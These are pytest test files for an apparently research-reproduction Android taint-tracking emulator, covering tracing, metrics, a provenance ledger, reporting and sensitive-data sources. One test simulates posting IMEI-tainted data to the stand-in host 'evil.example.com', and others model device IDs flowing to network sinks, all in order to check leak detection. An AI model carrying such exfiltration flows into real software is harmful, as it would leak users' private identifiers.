from repro.observability.flight import FlightSpool, read_spool
from repro.observability.spans import SpanTracer, attach_spans, now_us


class TestRecordShapes:
    def test_begin_end_records(self):
        tracer = SpanTracer(trace_id="abc123")
        span = tracer.begin("job", cat="scheduler", attempt=1)
        tracer.end(span, status="done")
        begin, end = tracer.records
        assert begin["ph"] == "B" and end["ph"] == "E"
        assert begin["name"] == "job"
        assert begin["cat"] == "scheduler"
        assert begin["trace"] == "abc123"
        assert begin["args"] == {"attempt": 1}
        assert end["span"] == begin["span"] == span
        assert end["args"] == {"status": "done"}
        assert end["ts"] >= begin["ts"]

    def test_complete_is_one_record(self):
        tracer = SpanTracer()
        tracer.complete("tb_translate", now_us(), cat="engine", pc=0x1000)
        (record,) = tracer.records
        assert record["ph"] == "X"
        assert record["dur"] >= 0.0
        assert record["args"]["pc"] == 0x1000

    def test_event_and_counter(self):
        tracer = SpanTracer(trace_id="t1")
        tracer.event("retry", cat="scheduler", attempt=2)
        tracer.counter("tb.hits", 7)
        event, counter = tracer.records
        assert event["ph"] == "i" and event["args"]["attempt"] == 2
        assert counter["ph"] == "C" and counter["value"] == 7
        assert counter["trace"] == "t1"

    def test_explicit_trace_overrides_tracer_default(self):
        tracer = SpanTracer(trace_id="default")
        tracer.event("queued", trace="override")
        assert tracer.records[0]["trace"] == "override"


class TestNesting:
    def test_nested_spans_attribute_parents(self):
        tracer = SpanTracer()
        outer = tracer.begin("job")
        inner = tracer.begin("platform_boot")
        tracer.end(inner)
        tracer.end(outer)
        records = {r["span"]: r for r in tracer.records if r["ph"] == "B"}
        assert "parent" not in records[outer]
        assert records[inner]["parent"] == outer

    def test_detached_spans_skip_the_stack(self):
        tracer = SpanTracer()
        first = tracer.begin("job", detached=True)
        second = tracer.begin("job", detached=True)
        begins = [r for r in tracer.records if r["ph"] == "B"]
        assert all("parent" not in r for r in begins)
        assert tracer.in_flight() == []
        tracer.end(second)
        tracer.end(first)

    def test_end_prunes_abandoned_children(self):
        # Ending an outer span whose inner never ended (a crashed
        # sub-phase) must not leave the inner id haunting the stack.
        tracer = SpanTracer()
        outer = tracer.begin("job")
        tracer.begin("scenario_run")
        tracer.end(outer)
        assert tracer.in_flight() == []

    def test_span_context_manager_closes_on_error(self):
        tracer = SpanTracer()
        try:
            with tracer.span("scenario_run"):
                raise RuntimeError("scenario crashed")
        except RuntimeError:
            pass
        assert tracer.in_flight() == []
        assert tracer.statistics()["spans_ended"] == 1

    def test_threads_get_independent_stacks(self):
        tracer = SpanTracer()
        main_span = tracer.begin("job")
        seen = {}

        def worker():
            span = tracer.begin("platform_boot")
            record = [r for r in tracer.records
                      if r["ph"] == "B" and r["span"] == span][0]
            seen["parent"] = record.get("parent")
            tracer.end(span)

        thread = threading.Thread(target=worker)
        thread.start()
        thread.join()
        # The other thread's span must not claim main's span as parent.
        assert seen["parent"] is None
        tracer.end(main_span)


class TestBounds:
    def test_flight_recorder_is_bounded_with_drop_tally(self):
        tracer = SpanTracer(capacity=4)
        for index in range(10):
            tracer.event(f"e{index}")
        assert len(tracer.records) == 4
        assert tracer.dropped == 6
        # The *newest* records survive: it is a flight recorder.
        assert [r["name"] for r in tracer.records] == \
            ["e6", "e7", "e8", "e9"]

    def test_statistics(self):
        tracer = SpanTracer()
        with tracer.span("a"):
            pass
        tracer.complete("b", now_us())
        tracer.event("c")
        tracer.counter("d", 1)
        stats = tracer.statistics()
        assert stats["spans_begun"] == 2
        assert stats["spans_ended"] == 2
        assert stats["events"] == 1
        assert stats["counters"] == 1
        assert stats["dropped"] == 0


class TestSpoolIntegration:
    def test_begin_hits_the_spool_before_end(self, tmp_path):
        # The crash-evidence property: a spool abandoned mid-span still
        # holds the begin record.
        path = str(tmp_path / "spool.jsonl")
        tracer = SpanTracer(spool=FlightSpool(path))
        tracer.begin("job", cat="worker")
        # No end, no close: simulate the state a SIGKILL would freeze.
        records = list(read_spool(path))
        assert [r["ph"] for r in records] == ["B"]
        tracer.close()

    def test_close_is_idempotent(self, tmp_path):
        tracer = SpanTracer(spool=FlightSpool(str(tmp_path / "s.jsonl")))
        tracer.close()
        tracer.close()
        no_spool = SpanTracer()
        no_spool.close()  # no spool: also fine


class TestAttach:
    class _Engine:
        span_tracer = None

    class _VM:
        def __init__(self, tbc):
            self.tbc = tbc

    class _Platform:
        def __init__(self, tbc):
            self.emu = TestAttach._Engine()
            self.jni = TestAttach._Engine()
            self.vm = TestAttach._VM(tbc)
            self.observability = None

    def test_attach_and_detach_all_engines(self):
        tbc = self._Engine()
        platform = self._Platform(tbc)
        tracer = SpanTracer()
        attach_spans(platform, tracer)
        assert platform.emu.span_tracer is tracer
        assert platform.jni.span_tracer is tracer
        assert tbc.span_tracer is tracer
        attach_spans(platform, None)
        assert platform.emu.span_tracer is None
        assert tbc.span_tracer is None

    def test_attach_tolerates_absent_tbc(self):
        platform = self._Platform(None)
        attach_spans(platform, SpanTracer())
        assert platform.jni.span_tracer is not None
