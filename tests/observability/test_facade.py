"""The Observability facade: wiring, zero-cost-when-off, schema."""

from repro.apps import ALL_SCENARIOS
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform
from repro.framework.android import AndroidPlatform
from repro.observability.metrics import MetricsRegistry
from repro.observability.schema import validate_record
from repro.resilience import Supervisor


def test_disabled_platform_has_no_observability():
    platform = AndroidPlatform(observe=False)
    assert platform.observability is None
    assert platform.kernel.ledger is None
    assert platform.emu.profiler is None


def test_wired_but_untraced_platform_keeps_engines_unledgered():
    platform = make_platform("ndroid")
    assert platform.observability is not None
    assert not platform.observability.tracing
    assert platform.kernel.ledger is None
    assert platform.vm.ledger is None
    assert platform.libc.ledger is None
    assert platform.ndroid.instruction_tracer.ledger is None
    assert platform.emu.profiler is None
    # Metrics still pull fine without tracing.
    snapshot = platform.observability.snapshot()
    assert "emulator.instructions" in snapshot
    assert "core.traced_instructions" in snapshot


def test_enable_tracing_propagates_to_all_engines():
    platform = make_platform("ndroid")
    ledger = platform.observability.enable_tracing()
    assert platform.kernel.ledger is ledger
    assert platform.vm.ledger is ledger
    assert platform.libc.ledger is ledger
    assert platform.ndroid.instruction_tracer.ledger is ledger
    assert platform.ndroid.dvm_hooks.ledger is ledger
    assert platform.ndroid.syslib_hooks.ledger is ledger
    assert platform.emu.profiler is platform.observability.profiler
    platform.observability.disable_tracing()
    assert platform.kernel.ledger is None
    assert platform.emu.profiler is None


def test_tracing_enabled_before_attach_also_wires_ndroid():
    # make_platform(trace=True) enables tracing before NDroid attaches;
    # wire_ndroid must propagate the existing ledger into the hooks.
    platform = make_platform("ndroid", trace=True)
    ledger = platform.observability.ledger
    assert platform.ndroid.instruction_tracer.ledger is ledger
    assert platform.ndroid.syslib_hooks.ledger is ledger


def test_metrics_cover_every_required_subsystem():
    platform = make_platform("ndroid", trace=True)
    run_scenario(ALL_SCENARIOS["ephone"](), platform)
    snapshot = platform.observability.snapshot()
    for name in ("emulator.instructions", "emulator.tb.blocks",
                 "emulator.tb.hits", "emulator.tb.misses",
                 "kernel.traps", "kernel.syscall.sendto",
                 "dalvik.instructions", "core.traced_instructions",
                 "resilience.degraded_events", "ledger.edges"):
        assert name in snapshot, name
    assert snapshot["ledger.edges"] > 0
    assert snapshot["kernel.syscall.sendto"] == 1
    assert any(name.startswith("core.hook.") for name in snapshot)


def test_ledger_edges_validate_against_schema():
    platform = make_platform("ndroid", trace=True)
    run_scenario(ALL_SCENARIOS["poc_case2"](), platform)
    for edge in platform.observability.ledger:
        assert validate_record(edge.to_dict()) == []


def test_supervisor_routes_outcomes_through_metrics():
    registry = MetricsRegistry()
    supervisor = Supervisor(budget=None, metrics=registry)
    result = supervisor.run("label", lambda ctx: 42)
    assert result.status == "ok"
    snapshot = registry.snapshot()
    assert snapshot["resilience.runs"] == 1
    assert snapshot["resilience.outcome.ok"] == 1
