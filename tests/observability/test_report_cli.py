"""`repro run` / `repro report` artifact-pipeline tests."""

import json

import pytest

from repro.cli import main
from repro.observability.schema import validate_trace


@pytest.fixture(scope="module")
def traced_run(tmp_path_factory):
    out = str(tmp_path_factory.mktemp("artifacts"))
    assert main(["run", "examples/ephone", "--trace", "--out", out]) == 0
    return out


def test_run_writes_all_artifacts(traced_run):
    import os
    for name in ("meta.json", "metrics.json", "metrics_baseline.json",
                 "leaks.json", "trace.jsonl", "flow.dot", "profile.folded"):
        assert os.path.exists(os.path.join(traced_run, name)), name


def test_trace_validates_against_schema(traced_run):
    import os
    count, errors = validate_trace(os.path.join(traced_run, "trace.jsonl"))
    assert count > 0
    assert errors == []


def test_report_renders_provenance_and_overhead(traced_run, capsys):
    assert main(["report", "--dir", traced_run]) == 0
    output = capsys.readouterr().out
    assert "source:framework" in output
    assert "sink:sendto" in output
    assert "overhead vs vanilla baseline" in output
    assert "analysis work" in output
    assert "emulator.instructions" in output


def test_report_fails_on_invalid_schema(tmp_path, capsys):
    (tmp_path / "meta.json").write_text('{"scenario": "x", "config": "y"}')
    (tmp_path / "trace.jsonl").write_text('{"seq": -1}\n')
    assert main(["report", "--dir", str(tmp_path)]) == 1
    assert "SCHEMA INVALID" in capsys.readouterr().out


def test_report_missing_directory_errors(tmp_path, capsys):
    missing = str(tmp_path / "nope")
    assert main(["report", "--dir", missing]) == 2
    assert "no artifact directory" in capsys.readouterr().err


def test_run_unknown_scenario_errors(tmp_path, capsys):
    assert main(["run", "examples/doesnotexist",
                 "--out", str(tmp_path)]) == 2
    assert "unknown scenario" in capsys.readouterr().err


def test_quarantined_hook_shows_up_in_report(tmp_path, capsys):
    """A hook fault injected into the traced run must surface as a
    resilience metric and be named by `repro report`."""
    out = str(tmp_path / "faulted")
    assert main(["run", "examples/ephone", "--trace",
                 "--faults", "hook:libc.memcpy.entry", "--out", out]) == 0
    capsys.readouterr()
    metrics = json.load(open(f"{out}/metrics.json"))
    assert metrics["resilience.degraded_events"] >= 1
    assert metrics["resilience.quarantined.libc.memcpy.entry"] == 1
    assert main(["report", "--dir", out]) == 0
    output = capsys.readouterr().out
    assert "libc.memcpy.entry" in output
    assert "degraded events:   1" in output
