"""`repro bench --emulator` must route results through the registry."""

from repro.bench.emulator_bench import EmulatorBench


def test_bench_results_and_metrics_snapshot_agree():
    bench = EmulatorBench(cfbench_iterations=300, jni_crossings=20,
                          tracer_calls=1, repeats=1)
    results = bench.run()
    assert results["metrics"], "expected a metrics snapshot in the results"
    for name, row in results["workloads"].items():
        for key, value in row.items():
            assert results["metrics"][f"bench.{name}.{key}"] == value
    observability = results["observability"]
    assert "cfbench_disabled_overhead" in observability
    assert observability["limit"] == 0.03
