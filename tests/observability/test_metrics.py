"""Unit tests for the metrics registry."""

import json

from repro.observability.metrics import (
    MetricsRegistry,
    diff_snapshots,
    load_snapshot,
)


def test_counter_gauge_histogram_snapshot():
    registry = MetricsRegistry()
    registry.counter("kernel.traps").inc()
    registry.counter("kernel.traps").inc(2)
    registry.gauge("emulator.instructions").set(45)
    histogram = registry.histogram("hook.latency")
    histogram.record(1)
    histogram.record(3)
    snapshot = registry.snapshot()
    assert snapshot["kernel.traps"] == 3
    assert snapshot["emulator.instructions"] == 45
    assert snapshot["hook.latency.count"] == 2
    assert snapshot["hook.latency.mean"] == 2.0


def test_create_or_get_returns_same_instrument():
    registry = MetricsRegistry()
    assert registry.counter("a") is registry.counter("a")
    assert registry.gauge("b") is registry.gauge("b")


def test_pull_sources_flatten_under_prefix():
    registry = MetricsRegistry()
    state = {"instructions": 0}
    registry.register_source("emulator",
                             lambda: {"instructions":
                                      state["instructions"]})
    state["instructions"] = 99  # snapshot-time read, not registration-time
    assert registry.snapshot()["emulator.instructions"] == 99
    registry.unregister_source("emulator")
    assert "emulator.instructions" not in registry.snapshot()


def test_write_and_load_snapshot(tmp_path):
    registry = MetricsRegistry()
    registry.counter("resilience.runs").inc()
    path = tmp_path / "metrics.json"
    written = registry.write_json(str(path))
    assert load_snapshot(str(path)) == written
    assert json.loads(path.read_text())["resilience.runs"] == 1


def test_diff_snapshots_ratio():
    rows = diff_snapshots({"a": 20, "b": 5, "only_current": 1},
                          {"a": 10, "b": 0})
    by_name = {name: (base, cur, ratio) for name, base, cur, ratio in rows}
    assert by_name["a"] == (10, 20, 2.0)
    assert by_name["b"][2] is None  # zero baseline -> no ratio
    assert by_name["only_current"][0] is None


def test_histogram_percentiles_exact_under_cap():
    from repro.observability.metrics import Histogram
    histogram = Histogram("latency")
    for value in range(1, 101):           # 1..100, well under SAMPLE_CAP
        histogram.record(value)
    summary = histogram.summary()
    assert summary["p50"] == 50
    assert summary["p95"] == 95
    assert summary["p99"] == 99
    assert summary["min"] == 1 and summary["max"] == 100
    assert summary["mean"] == 50.5


def test_histogram_reservoir_is_bounded_and_deterministic():
    from repro.observability.metrics import Histogram
    first, second = Histogram("a"), Histogram("b")
    for value in range(Histogram.SAMPLE_CAP * 4):
        first.record(value)
        second.record(value)
    assert len(first._samples) == Histogram.SAMPLE_CAP
    # No RNG in the replacement policy: identical runs summarise
    # identically (the farm's determinism discipline).
    assert first.summary() == second.summary()
    # Count/total stay exact even though the reservoir subsamples.
    assert first.count == Histogram.SAMPLE_CAP * 4
    assert first.summary()["max"] == Histogram.SAMPLE_CAP * 4 - 1


def test_empty_histogram_percentiles_are_zero():
    from repro.observability.metrics import Histogram
    summary = Histogram("empty").summary()
    assert summary["p50"] == summary["p95"] == summary["p99"] == 0


def test_gauge_keys_cover_push_gauges_and_declared_source_gauges():
    registry = MetricsRegistry()
    registry.gauge("pool.live_workers").set(3)
    registry.counter("pool.spawns").inc()
    registry.register_source("cache", lambda: {"blocks": 7, "hits": 9},
                             gauges=("blocks",))
    assert registry.gauge_keys() == ["cache.blocks", "pool.live_workers"]
    registry.unregister_source("cache")
    assert registry.gauge_keys() == ["pool.live_workers"]
