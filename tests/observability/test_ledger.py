"""Unit tests for the provenance ledger."""

import io

from repro.observability.ledger import Loc, ProvenanceLedger


def test_loc_overlap_rules():
    assert Loc.mem(0x100, 8).overlaps(Loc.mem(0x104, 8))
    assert not Loc.mem(0x100, 4).overlaps(Loc.mem(0x104, 4))
    assert Loc.reg(3).overlaps(Loc.reg(3))
    assert not Loc.reg(3).overlaps(Loc.reg(4))
    assert Loc.java(0x6).overlaps(Loc.java(0x2))
    assert not Loc.java(0x4).overlaps(Loc.java(0x2))
    assert not Loc.mem(0x100, 4).overlaps(Loc.reg(3))
    assert Loc.api("x").overlaps(Loc.api("x"))
    assert not Loc.api("x").overlaps(Loc.api("y"))


def test_record_skips_clear_tags():
    ledger = ProvenanceLedger()
    ledger.record(0, "native:mov", Loc.reg(0), Loc.reg(1))
    assert len(ledger) == 0
    ledger.record(0x2, "native:mov", Loc.reg(0), Loc.reg(1))
    assert len(ledger) == 1


def test_bounded_ledger_drops_oldest():
    ledger = ProvenanceLedger(maxlen=4)
    for i in range(10):
        ledger.record(0x2, "native:mov", Loc.reg(i), Loc.reg(i + 1))
    assert len(ledger) == 4
    assert ledger.dropped == 6
    assert [edge.seq for edge in ledger] == [6, 7, 8, 9]


def test_reconstruct_walks_source_to_sink():
    ledger = ProvenanceLedger()
    ledger.record(0x2, "source:framework", Loc.api("getDeviceId"),
                  Loc.java(0x2))
    ledger.record(0x2, "jni:dvmCallJNIMethod", Loc.java(0x2), Loc.reg(1))
    ledger.record(0x2, "native:mov", Loc.reg(1), Loc.reg(0))
    ledger.record(0x2, "native:str", Loc.reg(0), Loc.mem(0x8000, 4))
    ledger.record(0x2, "sink:write", Loc.mem(0x8000, 4),
                  Loc.sink("/sdcard/out"), location="syscall:write")
    path = ledger.reconstruct(taint=0x2, destination="/sdcard/out")
    assert [edge.mechanism for edge in path] == [
        "source:framework", "jni:dvmCallJNIMethod", "native:mov",
        "native:str", "sink:write"]
    # The walk is cycle-safe even with repeated register reuse.
    ledger.record(0x2, "native:mov", Loc.reg(0), Loc.reg(0))
    assert ledger.reconstruct(taint=0x2, destination="/sdcard/out")


def test_reconstruct_prefers_memory_sink_edges():
    ledger = ProvenanceLedger()
    ledger.record(0x2, "sink:send", Loc.java(0x2), Loc.sink("host:80"))
    ledger.record(0x2, "native:str", Loc.reg(0), Loc.mem(0x100, 4))
    ledger.record(0x2, "sink:send", Loc.mem(0x100, 4), Loc.sink("host:80"))
    path = ledger.reconstruct(taint=0x2, destination="host:80")
    assert path[-1].src.kind == "mem"


def test_jsonl_round_trip_and_dot():
    ledger = ProvenanceLedger()
    ledger.record(0x2, "source:framework", Loc.api("getDeviceId"),
                  Loc.java(0x2))
    ledger.record(0x2, "sink:send", Loc.java(0x2), Loc.sink("host:80"),
                  location="syscall:send")
    buffer = io.StringIO()
    assert ledger.to_jsonl(buffer) == 2
    buffer.seek(0)
    loaded = ProvenanceLedger.from_jsonl(buffer.read().splitlines())
    assert len(loaded) == 2
    assert [e.mechanism for e in loaded] == [e.mechanism for e in ledger]
    dot = loaded.to_dot()
    assert dot.startswith("digraph provenance")
    assert "doubleoctagon" in dot  # the sink node shape
    assert "host:80" in dot


def test_complete_path_is_reported_complete():
    ledger = ProvenanceLedger()
    ledger.record(0x2, "source:framework", Loc.api("getDeviceId"),
                  Loc.java(0x2))
    ledger.record(0x2, "sink:send", Loc.java(0x2), Loc.sink("host:80"))
    path = ledger.reconstruct(taint=0x2, destination="host:80")
    assert path.complete
    assert not path.at_horizon
    assert not path.partial
    assert "partial" not in ledger.format_path(path)


def test_reconstruct_terminates_truthfully_at_eviction_horizon():
    # A long register-to-register chain ending in a sink, in a ring too
    # small to hold it: the source and the early hops get evicted.
    ledger = ProvenanceLedger(maxlen=8)
    ledger.record(0x2, "source:framework", Loc.api("getDeviceId"),
                  Loc.java(0x2))
    ledger.record(0x2, "jni:dvmCallJNIMethod", Loc.java(0x2), Loc.reg(0))
    for i in range(20):
        ledger.record(0x2, "native:mov", Loc.reg(i % 4),
                      Loc.reg((i + 1) % 4))
    ledger.record(0x2, "native:str", Loc.reg(1), Loc.mem(0x8000, 4))
    ledger.record(0x2, "sink:write", Loc.mem(0x8000, 4),
                  Loc.sink("/sdcard/out"), location="syscall:write")
    assert ledger.dropped > 0

    path = ledger.reconstruct(taint=0x2, destination="/sdcard/out")
    # The walk terminates cleanly with only retained edges...
    assert path
    retained = {edge.seq for edge in ledger}
    assert all(edge.seq in retained for edge in path)
    # ...and the path is truthfully partial: it never claims to reach a
    # source, and it flags the horizon.
    assert path[0].src.kind != "api"
    assert not path.complete
    assert path.partial
    assert path.at_horizon
    assert path.evicted == ledger.dropped
    assert "partial" in ledger.format_path(path)


def test_unevicted_dead_end_is_partial_but_not_at_horizon():
    # No eviction: a sink whose taint was never sourced ends the walk
    # with full knowledge — partial, but not a horizon artifact.
    ledger = ProvenanceLedger()
    ledger.record(0x2, "native:str", Loc.reg(0), Loc.mem(0x100, 4))
    ledger.record(0x2, "sink:send", Loc.mem(0x100, 4), Loc.sink("host:80"))
    path = ledger.reconstruct(taint=0x2, destination="host:80")
    assert path.partial
    assert not path.at_horizon


def test_empty_reconstruction_is_a_path_object():
    ledger = ProvenanceLedger()
    path = ledger.reconstruct(taint=0x2, destination="nowhere")
    assert path == []
    assert not path.complete
    assert not path.partial


def test_clear_resets_counts():
    ledger = ProvenanceLedger(maxlen=2)
    for i in range(5):
        ledger.record(0x2, "native:mov", Loc.reg(0), Loc.reg(1))
    ledger.clear()
    assert len(ledger) == 0
    assert ledger.dropped == 0
