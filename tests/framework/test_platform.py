"""Framework tests: platform assembly, sources/sinks, library loading."""

import pytest

from repro.common.errors import DalvikError
from repro.common.taint import (
    TAINT_CLEAR, TAINT_CONTACTS, TAINT_IMEI, TAINT_SMS,
)
from repro.dalvik import ClassDef, MethodBuilder
from repro.dalvik.heap import Slot
from repro.framework import AndroidPlatform, Apk
from repro.taintdroid import TaintDroid


@pytest.fixture
def platform():
    return AndroidPlatform()


@pytest.fixture
def td_platform():
    platform = AndroidPlatform()
    TaintDroid.attach(platform)
    return platform


def simple_app(package="Lcom/example/app;", **kwargs):
    cls = ClassDef(package)
    return cls, Apk(package=package.strip("L;").replace("/", "."),
                    classes=[cls], **kwargs)


class TestSources:
    def test_imei_source_tainted_under_taintdroid(self, td_platform):
        result = td_platform.vm.invoke_symbol(
            "Landroid/telephony/TelephonyManager;->getDeviceId", [])
        assert td_platform.vm.string_at(result.value) == \
            td_platform.device.imei
        assert result.taint == TAINT_IMEI
        assert td_platform.vm.heap.get(result.value).taint == TAINT_IMEI

    def test_sources_untainted_without_taintdroid(self, platform):
        result = platform.vm.invoke_symbol(
            "Landroid/telephony/TelephonyManager;->getDeviceId", [])
        assert result.taint == TAINT_CLEAR

    def test_contacts_source(self, td_platform):
        result = td_platform.vm.invoke_symbol(
            "Landroid/provider/ContactsContract;->getContactName", [Slot(0)])
        assert td_platform.vm.string_at(result.value) == "Vincent"
        assert result.taint == TAINT_CONTACTS

    def test_sms_source(self, td_platform):
        result = td_platform.vm.invoke_symbol(
            "Landroid/provider/Telephony$Sms;->getAllMessages", [])
        assert result.taint == TAINT_SMS
        assert "verification" in td_platform.vm.string_at(result.value)


class TestJavaSinks:
    def _post(self, platform, taint):
        vm = platform.vm
        dest = vm.heap.alloc_string("evil.example.com:80")
        body = vm.heap.alloc_string("payload", taint)
        return vm.invoke_symbol(
            "Lorg/apache/http/client/HttpClient;->post",
            [Slot(dest.address, 0, True), Slot(body.address, taint, True)])

    def test_tainted_post_detected_by_taintdroid(self, td_platform):
        self._post(td_platform, TAINT_IMEI)
        assert td_platform.leaks.detected_by("taintdroid", TAINT_IMEI)
        sent = td_platform.kernel.network.transmissions_to("evil.example.com")
        assert sent[0].payload == b"payload"
        assert sent[0].taint_union == TAINT_IMEI

    def test_clean_post_not_reported(self, td_platform):
        self._post(td_platform, TAINT_CLEAR)
        assert not td_platform.leaks.detected_by("taintdroid")

    def test_taintdroid_absent_means_no_detection(self, platform):
        self._post(platform, TAINT_IMEI)
        assert len(platform.leaks) == 0

    def test_file_sink(self, td_platform):
        vm = td_platform.vm
        path = vm.heap.alloc_string("/sdcard/out.txt")
        body = vm.heap.alloc_string("secret", TAINT_SMS)
        vm.invoke_symbol(
            "Ljava/io/FileOutputStream;->writeString",
            [Slot(path.address, 0, True), Slot(body.address, TAINT_SMS, True)])
        assert td_platform.leaks.detected_by("taintdroid", TAINT_SMS)
        assert td_platform.kernel.filesystem.read_text("/sdcard/out.txt") == \
            "secret"


class TestAppLifecycle:
    def test_install_and_run(self, platform):
        cls, apk = simple_app()
        cls.add_method(
            MethodBuilder(cls.name, "main", "I", static=True)
            .const(0, 123).ret(0).build())
        platform.install(apk)
        assert platform.run_app(apk).value == 123

    def test_double_install_rejected(self, platform):
        cls, apk = simple_app()
        cls.add_method(MethodBuilder(cls.name, "main", "I", static=True)
                       .const(0, 0).ret(0).build())
        platform.install(apk)
        with pytest.raises(DalvikError):
            platform.install(apk)

    def test_load_library_binds_native_methods(self, platform):
        cls, apk = simple_app("Lcom/demo/App;")
        cls.add_method(MethodBuilder(cls.name, "nativeAdd", "III",
                                     static=True, native=True).build())
        builder = MethodBuilder(cls.name, "main", "I", static=True,
                                registers=4)
        builder.const_string(0, "libdemo.so")
        builder.invoke_static("Ljava/lang/System;->loadLibrary", 0)
        builder.const(1, 20).const(2, 22)
        builder.invoke_static("Lcom/demo/App;->nativeAdd", 1, 2)
        builder.move_result(3)
        builder.ret(3)
        cls.add_method(builder.build())
        apk.native_libraries["libdemo.so"] = """
        Java_com_demo_App_nativeAdd:
            add r0, r2, r3
            bx lr
        """
        apk.load_library_calls.append("libdemo.so")
        platform.install(apk)
        assert platform.run_app(apk).value == 42

    def test_library_region_is_third_party(self, platform):
        cls, apk = simple_app("Lcom/demo/App;")
        cls.add_method(MethodBuilder(cls.name, "main", "V", static=True)
                       .ret_void().build())
        apk.native_libraries["libx.so"] = "noop: bx lr"
        platform.install(apk)
        program = platform.load_library("libx.so")
        region = platform.emu.memory_map.find(program.base)
        assert region.third_party
        assert region.name == "libx.so"

    def test_missing_library_raises(self, platform):
        with pytest.raises(DalvikError, match="UnsatisfiedLinkError"):
            platform.load_library("libmissing.so")

    def test_dlopen_dlsym_roundtrip(self, platform):
        cls, apk = simple_app("Lcom/demo/App;")
        cls.add_method(MethodBuilder(cls.name, "main", "V", static=True)
                       .ret_void().build())
        apk.native_libraries["libdl.so"] = """
        exported_fn:
            mov r0, #55
            bx lr
        """
        platform.install(apk)
        handle = platform._dlopen("/data/app/libdl.so")
        assert handle != 0
        address = platform._dlsym(handle, "exported_fn")
        assert address != 0
        assert platform.emu.call(address) == 55
        assert platform._dlsym(handle, "missing") == 0

    def test_task_structs_include_library(self, platform):
        cls, apk = simple_app("Lcom/demo/App;")
        cls.add_method(MethodBuilder(cls.name, "main", "V", static=True)
                       .ret_void().build())
        apk.native_libraries["liby.so"] = "f: bx lr"
        platform.install(apk)
        platform.load_library("liby.so")
        # The memory map (and therefore the guest task structs) now list it.
        assert platform.emu.memory_map.find_by_name("liby.so") is not None


class TestWorkCounters:
    def test_counters_track_activity(self, platform):
        cls, apk = simple_app()
        builder = MethodBuilder(cls.name, "main", "I", static=True,
                                registers=3)
        builder.const(0, 0).const(1, 100)
        builder.label("loop")
        from repro.dalvik.instructions import Op
        builder.if_cmp(Op.IF_GE, 0, 1, "done")
        builder.add_lit(0, 0, 1)
        builder.goto("loop")
        builder.label("done")
        builder.ret(0)
        cls.add_method(builder.build())
        platform.install(apk)
        platform.run_app(apk)
        counters = platform.work_counters()
        assert counters["dalvik_instructions"] > 100
