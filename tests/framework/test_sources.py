"""Every TaintDroid source class (Section II.B's list) is represented."""

import pytest

from repro.common import taint as T
from repro.framework import AndroidPlatform
from repro.taintdroid import TaintDroid

SOURCES = [
    ("Landroid/telephony/TelephonyManager;->getDeviceId", T.TAINT_IMEI),
    ("Landroid/telephony/TelephonyManager;->getSubscriberId", T.TAINT_IMSI),
    ("Landroid/telephony/TelephonyManager;->getSimSerialNumber",
     T.TAINT_ICCID),
    ("Landroid/telephony/TelephonyManager;->getLine1Number",
     T.TAINT_PHONE_NUMBER),
    ("Landroid/provider/ContactsContract;->queryAllContacts",
     T.TAINT_CONTACTS),
    ("Landroid/provider/Telephony$Sms;->getAllMessages", T.TAINT_SMS),
    ("Landroid/location/LocationManager;->getLastKnownLocation",
     T.TAINT_LOCATION_GPS),
    ("Landroid/location/LocationManager;->getNetworkLocation",
     T.TAINT_LOCATION_NET),
    ("Landroid/accounts/AccountManager;->getAccounts", T.TAINT_ACCOUNT),
    ("Landroid/hardware/SensorManager;->getAccelerometer",
     T.TAINT_ACCELEROMETER),
    ("Landroid/media/AudioRecord;->read", T.TAINT_MIC),
    ("Landroid/hardware/Camera;->takePicture", T.TAINT_CAMERA),
    ("Landroid/provider/Browser;->getHistory", T.TAINT_HISTORY),
]


@pytest.fixture(scope="module")
def platform():
    platform = AndroidPlatform()
    TaintDroid.attach(platform)
    return platform


@pytest.mark.parametrize("symbol,label", SOURCES)
def test_source_applies_its_label(platform, symbol, label):
    result = platform.vm.invoke_symbol(symbol, [])
    assert result.is_ref
    assert result.taint == label
    record = platform.vm.heap.get(result.value)
    assert record.taint == label
    assert record.text  # every source yields non-empty data


def test_labels_are_distinct_across_sources():
    labels = [label for __, label in SOURCES]
    assert len(set(labels)) == len(labels)


def test_network_operator_is_not_sensitive(platform):
    result = platform.vm.invoke_symbol(
        "Landroid/telephony/TelephonyManager;->getNetworkOperator", [])
    assert result.taint == 0
